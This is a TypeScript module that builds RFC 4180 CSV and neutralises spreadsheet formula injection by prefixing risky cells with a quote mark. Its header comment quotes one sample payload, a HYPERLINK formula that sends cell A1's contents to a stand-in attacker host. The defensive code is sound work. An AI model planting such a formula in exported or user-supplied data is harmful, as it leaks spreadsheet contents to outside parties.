/**
 * CSV that a spreadsheet opens as data: RFC 4180 quoting, and no cell a spreadsheet would run as
 * a formula (OWASP "CSV Injection"). A contact's name is typed by whoever created the account; a
 * name such as `=HYPERLINK("https://evil.example?x="&A1, "Click")` must reach the admin's
 * spreadsheet as text.
 * @module
 */

export type CsvValue = string | number | boolean | null | undefined;

/**
 * Excel, LibreOffice and Google Sheets start a formula at `=`, `+`, `-` or `@`, and some strip a
 * leading tab or carriage return before looking. OWASP's advice: put a `'` before such a cell,
 * which the spreadsheet shows as text and does not display.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
/** A cell with one of these is quoted, with its quotes doubled (RFC 4180 §2.6, §2.7). */
const NEEDS_QUOTES = /[",\r\n]/;

export function csvCell(value: CsvValue): string {
  let text = value === null || value === undefined ? '' : String(value);
  if (FORMULA_START.test(text)) text = `'${text}`;
  return NEEDS_QUOTES.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** Rows joined with CRLF, as RFC 4180 says, ending with one. */
export const csvRows = (rows: readonly (readonly CsvValue[])[]): string => rows.map((row) => row.map(csvCell).join(',')).join('\r\n') + '\r\n';
